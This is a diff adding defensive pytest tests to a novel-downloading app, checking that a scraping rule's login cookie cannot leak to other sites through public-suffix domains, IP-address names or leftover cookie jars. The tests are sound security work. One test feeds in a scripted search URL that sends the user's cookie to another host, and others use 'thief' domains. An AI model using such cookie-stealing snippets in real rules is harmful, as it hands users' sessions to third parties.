@@ -1,0 +1,114 @@
+"""Ways around "a rule source that holds your cookie reaches its own site only", each closed.
+
+Found by a review of the rule (``test_cookie_confinement.py`` is the rule's own): an own site
+that is a public suffix or an IP address, and a cookie jar kept under another login than the
+one saved. Sources here live on 127.0.0.2; the other host is 127.0.0.1.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from yarl import URL
+
+from novelfetch.core.net.cookies import SiteCookies
+from novelfetch.core.net.policy import NetworkPolicy, OtherSiteRefused
+from novelfetch.core.sources import SourceRegistry
+from novelfetch.core.sources.base import SourceSettings
+from novelfetch.core.sources.memory import MemoryDict
+from novelfetch.core.sources.search import search_sources
+from tests.hostile.sites import Site, rule, serving
+from tests.hostile.test_cookie_confinement import QUICK, download
+from tests.hostile.test_source_cookies import SECRET, import_rules
+
+
+@pytest.mark.parametrize(
+    ("own", "other"),
+    [
+        ("https://www.github.io/", "https://thief.github.io/"),  # a private public suffix
+        ("https://com.cn/", "https://thief.com.cn/"),
+        ("https://www.co.uk/", "https://thief.co.uk/"),
+        ("https://com/", "https://thief.com/"),  # a bare top-level domain
+        ("https://com./", "https://thief.com/"),
+    ],
+)
+def test_an_own_site_that_is_a_public_suffix_is_its_host_alone(own: str, other: str) -> None:
+    # A rule names its own address: one on a suffix anyone can register under would make
+    # every stranger's domain there "its own site", for its requests and for the cookie.
+    policy = NetworkPolicy.for_source("x", own, allow_local=False, confined=True)
+    policy.check_site(URL(own))
+    with pytest.raises(OtherSiteRefused):
+        policy.check_site(URL(other))
+    cookies = SiteCookies.for_source(own, SECRET)
+    assert cookies.header_for(URL(own)) == SECRET
+    assert cookies.header_for(URL(other)) == ""
+
+
+def test_a_site_still_has_its_subdomains() -> None:
+    for own, sub in (
+        ("https://www.example.co.uk/", "https://m.example.co.uk/"),
+        ("https://someone.github.io/", "https://a.someone.github.io/"),
+        ("https://例子.中国/", "https://m.xn--fsqu00a.xn--fiqs8s/"),
+    ):
+        NetworkPolicy.for_source("x", own, allow_local=False, confined=True).check_site(URL(sub))
+        assert SiteCookies.for_source(own, SECRET).header_for(URL(sub)) == SECRET
+    local = NetworkPolicy.for_source(
+        "x", "http://localhost:8080/", allow_local=False, confined=True
+    )
+    local.check_site(URL("http://localhost:8080/book"))
+
+
+def test_an_own_site_that_is_an_ip_address_has_no_subdomains() -> None:
+    # "leak.127.0.0.2" is a name: asking for it sends a DNS query (with whatever a script put
+    # in it) to the user's resolver and on to the root servers.
+    policy = NetworkPolicy.for_source(
+        "x", "http://127.0.0.2:8080/", allow_local=True, confined=True
+    )
+    policy.check_site(URL("http://127.0.0.2:8080/book"))
+    with pytest.raises(OtherSiteRefused):
+        policy.check_site(URL("http://leak.127.0.0.2:8080/"))
+    assert (
+        SiteCookies.for_source("http://127.0.0.2/", SECRET).header_for(URL("http://x.127.0.0.2/"))
+        == ""
+    )
+
+
+async def test_a_jar_made_under_a_cookie_for_one_run_is_not_kept(tmp_path: Path) -> None:
+    # What a site sets in answer to the user's login (a session) is as good as the login: it
+    # must not stay in the jar for later runs that hold no cookie, and so are not confined,
+    # where a script reads it (cookie.getCookie) and sends it anywhere.
+    data = tmp_path / "data"
+    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
+        own.sets_cookies = ("session=SIGNED-IN-7d1e; Path=/",)
+        thief = f"<js>'{elsewhere.base}search?q=' + cookie.getCookie(baseUrl)</js>"
+        registry, (source_id,) = import_rules(
+            data, rule(own.base, search_url=thief, cookie_jar=True), other_sites=False
+        )
+        signed_in = await download(
+            registry, source_id, own.url("/book"), tmp_path / "s.sqlite3", cookie=SECRET
+        )
+        assert signed_in.fetched == 1, signed_in.failures
+        later = SourceRegistry(data)  # a later run, without the cookie
+        async for outcome in search_sources(
+            [later.get(source_id)], "青云", http=QUICK, memory=MemoryDict()
+        ):
+            assert outcome.ok, outcome.error
+    assert "SIGNED-IN" not in json.dumps(elsewhere.queries)
+    assert later.cookies.jar(source_id) == {}
+
+
+async def test_a_jar_made_under_a_forgotten_cookie_is_not_kept(tmp_path: Path) -> None:
+    # The user forgets the cookie while a job runs; the job ends and keeps its jar.
+    data = tmp_path / "data"
+    async with serving(Site(), "127.0.0.2") as own:
+        own.sets_cookies = ("session=SIGNED-IN-7d1e; Path=/",)
+        registry, (source_id,) = import_rules(data, rule(own.base, cookie_jar=True))
+        registry.set_cookie(source_id, SECRET)
+        entry = registry.get(source_id)
+        cookies = entry._site_cookies(SourceSettings(cookie=SECRET))  # the job's adapter's
+        cookies.take(URL(own.base), own.sets_cookies)
+        registry.set_cookie(source_id, "")  # forgotten, mid-job
+        cookies.close()  # the job ends
+    assert SourceRegistry(data).cookies.jar(source_id) == {}
